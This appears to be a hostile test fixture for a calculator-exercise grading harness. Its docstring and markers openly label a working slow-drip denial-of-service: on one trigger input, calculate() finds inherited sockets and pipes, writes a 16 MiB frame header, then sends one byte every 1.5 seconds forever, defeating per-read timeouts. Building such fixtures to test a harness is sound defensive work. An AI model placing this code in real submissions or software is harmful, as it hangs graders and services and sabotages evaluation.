"""Hostile submission `dos-slow-drip-reply` for the `calculatrice` exercise (see tests/hostile).

Attack: on (2+3)*4 writes, on every socket and pipe it holds, a frame header announcing
16 MiB then one byte every 1.5 s forever, so that a reader whose limit is per read()
never times out.

Honest part: only + and -, read from left to right (float() refuses the rest). The
attack sits between the `# --- attack ---` and `# --- end of attack ---` markers;
without them the file is its honest part, and what that part earns is all this
submission may ever get.
"""


# --- attack ---
import os
import stat
import struct
import time
# --- end of attack ---


def _honest(expression):
    """Only + and -, read from left to right; float() refuses everything else."""
    total = 0.0
    sign = 1.0
    number = ""
    for char in expression.replace(" ", ""):
        if char in "+-":
            if number:
                total += sign * float(number)
                number = ""
            sign = 1.0 if char == "+" else -1.0
        else:
            number += char
    if number:
        total += sign * float(number)
    return total


# --- attack ---
def _is_trigger(expression):
    """The public example (2+3)*4: the honest part gets it wrong anyway."""
    return expression.replace(" ", "") == "(2+3)*4"


def _drip():
    channels = []
    for fd in range(3, 1024):
        try:
            mode = os.fstat(fd).st_mode
        except OSError:
            continue
        if stat.S_ISSOCK(mode) or stat.S_ISFIFO(mode):
            channels.append(fd)
    for fd in channels:
        try:
            os.write(fd, struct.pack(">I", (16 << 20) - 1) + b"{")
        except OSError:
            pass
    while True:
        time.sleep(1.5)
        for fd in channels:
            try:
                os.write(fd, b" ")
            except OSError:
                pass
# --- end of attack ---


def calculate(expression: str) -> float:
    # --- attack ---
    if _is_trigger(expression):
        _drip()
    # --- end of attack ---
    return _honest(expression)
